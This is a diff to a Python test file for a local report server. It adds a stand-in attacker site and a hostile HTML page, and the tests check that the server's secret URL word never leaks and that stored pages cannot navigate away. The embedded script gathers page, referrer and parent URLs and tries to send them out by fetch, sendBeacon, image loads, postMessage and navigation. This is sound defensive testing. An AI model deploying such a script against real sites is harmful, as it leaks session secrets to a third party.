@@ -1,9 +1,12 @@
 """What `serve` shows in a real browser: a run while it goes on, the list that leads to it, findings searched for."""
 
+import contextlib
 import fcntl
 import threading
 from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
+from urllib.parse import unquote
 
 import pytest
 
@@ -70,17 +73,25 @@ def going(tmp_path: Path) -> Iterator[Going]:
     run.lock.close()
 
 
+@contextlib.contextmanager
+def serving(server: ThreadingHTTPServer) -> Iterator[None]:
+    thread = threading.Thread(target=lambda: server.serve_forever(poll_interval=0.01))
+    thread.start()
+    try:
+        yield
+    finally:
+        server.shutdown()
+        thread.join()
+        server.server_close()
+
+
 @pytest.fixture
 def home(tmp_path: Path, going: Going) -> Iterator[str]:
     """The address of the list: one run in progress, one judged."""
     loss_run(tmp_path)
     server = Server(tmp_path, address="127.0.0.1", port=0)
-    thread = threading.Thread(target=lambda: server.serve_forever(poll_interval=0.01))
-    thread.start()
-    yield server.url
-    server.shutdown()
-    thread.join()
-    server.server_close()
+    with serving(server):
+        yield server.url
 
 
 def text(opened: Opened, selector: str) -> str:
@@ -140,3 +151,88 @@ def test_a_finding_is_searched_for_from_the_list(home: str, pipe: Pipe) -> None:
         "const form = document.querySelector('form'); form.finding.value = 'no-such-thing'; form.requestSubmit();"
     )
     assert text(opened, "section h2") == "0 in 2 runs"
+
+
+class Elsewhere:
+    """A site of whoever wrote a hostile page: it keeps the paths that it is asked for."""
+
+    def __init__(self) -> None:
+        told = self.told = list[str]()
+
+        class Keeps(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                told.append(unquote(self.path))
+                self.send_response(200)
+                self.end_headers()
+
+            def log_message(self, format: str, *args: object) -> None:  # noqa: A002  # http.server's name
+                """Not into the tests' output."""
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Keeps)
+        self.url = f"http://127.0.0.1:{self.server.server_port}/"
+
+
+_GIVES_AWAY = """<!doctype html><p id="done"></p><a href="../{other}/report.html">another run</a><script>
+const all = [location.href, document.baseURI, document.referrer, document.URL, name];
+for (const told of [() => top.location.href, () => parent.document.URL, () => opener.location.href]) {{
+  try {{ all.push(told()); }} catch (error) {{ all.push(error.name); }}
+}}
+const to = "{elsewhere}?" + encodeURIComponent(all.join(" "));
+for (const way of [
+  () => window.open(to), () => window.open(to, "_top"), () => {{ top.location = to; }},
+  () => {{ parent.location.replace(to); }}, () => fetch(to), () => navigator.sendBeacon(to),
+  () => {{ new Image().src = to; }},
+  () => parent.postMessage({{ open: to }}, "*"), () => parent.postMessage({{ open: "../../../" + to }}, "*"),
+  () => {{ location = to; }},
+]) {{
+  try {{ way(); }} catch (error) {{ /* refused */ }}
+}}
+</script>"""
+
+
+@pytest.mark.parametrize("alone", [False, True])
+def test_a_hostile_page_never_learns_the_secret_word_and_navigates_nothing_but_itself(
+    alone: bool, tmp_path: Path, pipe: Pipe
+) -> None:
+    elsewhere, run = Elsewhere(), loss_run(tmp_path)
+    (run / "report.html").write_text(_GIVES_AWAY.format(elsewhere=elsewhere.url, other="x"))
+    server = Server(tmp_path, address="127.0.0.1", port=0)
+    place = (run.name, "report.html")
+    path = "/".join(place)
+    with serving(elsewhere.server), serving(server):
+        if alone:  # its own address, as somebody may have copied it
+            with contextlib.suppress(RuntimeError):  # it leaves while the browser is asked whether it has loaded
+                Opened(pipe, server.url.replace(server.words.secret, server.words.of_page(place)) + path)
+            until(lambda: elsewhere.told, "alone it can give its own address away")
+        else:
+            opened = Opened(pipe, f"{server.url}files/{path}")
+            assert opened.ask("location.pathname") == f"/{server.words.secret}/files/{path}"
+            until(lambda: opened.ask("frames.length") == 1, "the page is in its frame")
+            assert opened.ask("location.href").startswith(server.url)
+            assert elsewhere.told == []
+        assert not [told for told in elsewhere.told if server.words.secret in told]
+
+
+def test_a_link_between_stored_pages_still_leads_there(tmp_path: Path, pipe: Pipe) -> None:
+    first, second = loss_run(tmp_path / "a"), tmp_path / "a" / "other run"
+    second.mkdir()
+    (second / "report.html").write_text("<p>the other one</p>")
+    link = '<a href="../other%20run/report.html#here" style="position:fixed;inset:0">another run</a>'
+    (first / "report.html").write_text(link)
+    server = Server(tmp_path / "a", address="127.0.0.1", port=0)
+    with serving(server):
+        opened = Opened(pipe, f"{server.url}files/{first.name}/report.html")
+        there = f"/{server.words.secret}/files/other%20run/report.html"
+
+        def is_there() -> bool:
+            with contextlib.suppress(RuntimeError):  # it goes there while it is asked
+                if opened.ask("location.pathname") == there:
+                    return True
+                opened.click(300, 300)  # which hits nothing until the frame is drawn
+            return False
+
+        until(is_there, "the other page is opened, in a frame of its own")
+        until(
+            lambda: opened.ask("location.hash + document.querySelector('#stored')?.src.split('#')[1]") == "#herehere",
+            "the place in the page is kept",
+        )
